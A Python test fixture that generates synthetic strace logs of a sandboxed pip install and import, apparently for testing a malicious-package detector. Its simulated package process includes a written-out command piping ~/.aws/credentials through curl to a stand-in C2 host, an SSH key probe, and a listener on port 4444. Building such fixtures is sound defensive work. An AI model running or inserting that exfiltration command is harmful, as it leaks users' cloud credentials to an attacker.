"""Synthetic strace logs shaped like an install and an import, written line by line (no tracing).

The shapes a run's consumers look at are all there: the sandbox launcher (bwrap) and its setup,
the harness command, a pip-like driver writing `modules` files, a package process (sh -c)
that reads a bait, probes ~/.ssh, writes the second-stage marker, connects (TCP, and UDP
lookup probes), listens, and a daemon still alive at the end. `disorder` puts a thread's lines
a little out of time order, so events.jsonl needs its sort.
"""

from __future__ import annotations

from collections.abc import Iterator

HOME = "/home/alice"
BAIT = f"{HOME}/.aws/credentials"
MARKER = "/tmp/.osptrack-stage-1234"
ENV = "0x7ffd /* 3 vars */"


def lines(phase: str, modules: int, *, disorder: bool = False, repeat_paths: int = 0) -> Iterator[str]:
    """The log of one phase. `repeat_paths` > 0: the driver cycles over that many paths (so the
    distinct paths stay few however many events there are)."""
    t = 1_800_000_000.0 if phase == "install" else 1_800_000_100.0
    base = 100 if phase == "install" else 500

    def at() -> str:
        nonlocal t
        t += 0.0001
        return f"{t:.6f}"

    bw, cmd, sh, daemon, thread = base, base + 1, base + 2, base + 3, base + 4
    yield f'{bw} {at()} execve("/usr/bin/bwrap", ["bwrap", "--unshare-all"], {ENV}) = 0'
    yield f'{bw} {at()} openat(AT_FDCWD, "/etc/ld.so.cache", O_RDONLY|O_CLOEXEC) = 3</etc/ld.so.cache>'
    yield f"{bw} {at()} clone(child_stack=NULL, flags=CLONE_NEWPID|SIGCHLD) = {cmd}"
    if phase == "install":
        argv = (
            '["/usr/bin/python3", "-m", "pip", "install", "--target", "/home/alice/site", "/input/pkg/x.whl"]'
        )
    else:
        argv = '["/usr/bin/python3", "/input/harness/pypi_import.py", "scale", "/home/alice/site"]'
    yield f'{cmd} {at()} execve("/usr/bin/python3", {argv}, {ENV}) = 0'
    yield f'{cmd} {at()} openat(AT_FDCWD, "/usr/lib/python3.11/os.py", O_RDONLY|O_CLOEXEC) = 3</usr/lib/python3.11/os.py>'
    held: list[str] = []
    for i in range(modules):
        n = i % repeat_paths if repeat_paths else i
        path = f"{HOME}/site/scale/m{n:05d}.py"
        yield (
            f'{cmd} {at()} openat(AT_FDCWD, "{path}", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0644) = 3<{path}>'
        )
        if i % 7 == 0:
            yield f'{cmd} {at()} openat(AT_FDCWD, "{path}", O_RDONLY|O_CLOEXEC) = 3<{path}>'
        if i % 11 == 0:
            missing = f"{HOME}/site/scale/__pycache__/m{n:05d}.pyc"
            yield (
                f'{cmd} {at()} openat(AT_FDCWD, "{missing}", O_RDONLY|O_CLOEXEC) = -1 ENOENT (No such file or directory)'
            )
        if disorder and i % 97 == 0:
            held.append(
                f'{thread} {at()} openat(AT_FDCWD, "/usr/lib/python3.11/re.py", O_RDONLY) = 4</usr/lib/python3.11/re.py>'
            )
        if disorder and len(held) >= 3:
            yield f"{cmd} {at()} clone(child_stack=0x7f, flags=CLONE_VM|CLONE_THREAD|CLONE_SIGHAND) = {thread}"
            yield from held  # earlier timestamps than the lines before them
            held.clear()
    yield f"{cmd} {at()} clone(child_stack=NULL, flags=SIGCHLD) = {sh}"
    yield f'{sh} {at()} execve("/usr/local/bin/curl", ["curl", "http://c2.example/x"], {ENV}) = -1 ENOENT (No such file or directory)'
    yield f'{sh} {at()} execve("/bin/sh", ["sh", "-c", "cat ~/.aws/credentials | curl -d @- c2.example"], {ENV}) = 0'
    yield f'{sh} {at()} openat(AT_FDCWD, "{BAIT}", O_RDONLY) = 3<{BAIT}>'
    yield f'{sh} {at()} newfstatat(AT_FDCWD, "{HOME}/.ssh/id_rsa", 0x7ffd, 0) = -1 ENOENT (No such file or directory)'
    yield f'{sh} {at()} openat(AT_FDCWD, "{MARKER}", O_WRONLY|O_CREAT|O_TRUNC, 0644) = 3<{MARKER}>'
    yield (
        f'{sh} {at()} connect(4<UDP:[0.0.0.0:0]>, {{sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("198.18.1.9")}}, 16) = 0'
    )
    yield (
        f'{sh} {at()} connect(5<TCP:[0.0.0.0:0]>, {{sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("198.18.1.5")}}, 16) = -1 EINPROGRESS (Operation now in progress)'
    )
    yield (
        f'{sh} {at()} bind(6<TCP:[0.0.0.0:0]>, {{sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("0.0.0.0")}}, 16) = 0'
    )
    yield f"{sh} {at()} listen(6<TCP:[0.0.0.0:4444]>, 5) = 0"
    yield f"{sh} {at()} clone(child_stack=NULL, flags=SIGCHLD) = {daemon}"
    yield f'{daemon} {at()} execve("/usr/bin/sleep", ["sleep", "300"], {ENV}) = 0'
    yield f"{sh} {at()} +++ exited with 0 +++"
    yield f"{cmd} {at()} +++ exited with 0 +++"
    yield f"{daemon} {at()} +++ killed by SIGKILL +++"
